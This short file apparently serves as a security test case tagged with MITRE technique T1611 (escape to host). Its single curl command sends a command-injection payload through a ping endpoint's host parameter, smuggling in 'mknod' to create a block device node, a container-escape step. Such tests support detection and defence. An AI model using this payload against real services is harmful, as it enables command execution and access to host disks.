# workload: python
# technique: T1611
# finds: mknod
curl -s "http://127.0.0.1:18081/ping?host=x;mknod+/tmp/disk+b+253+0"
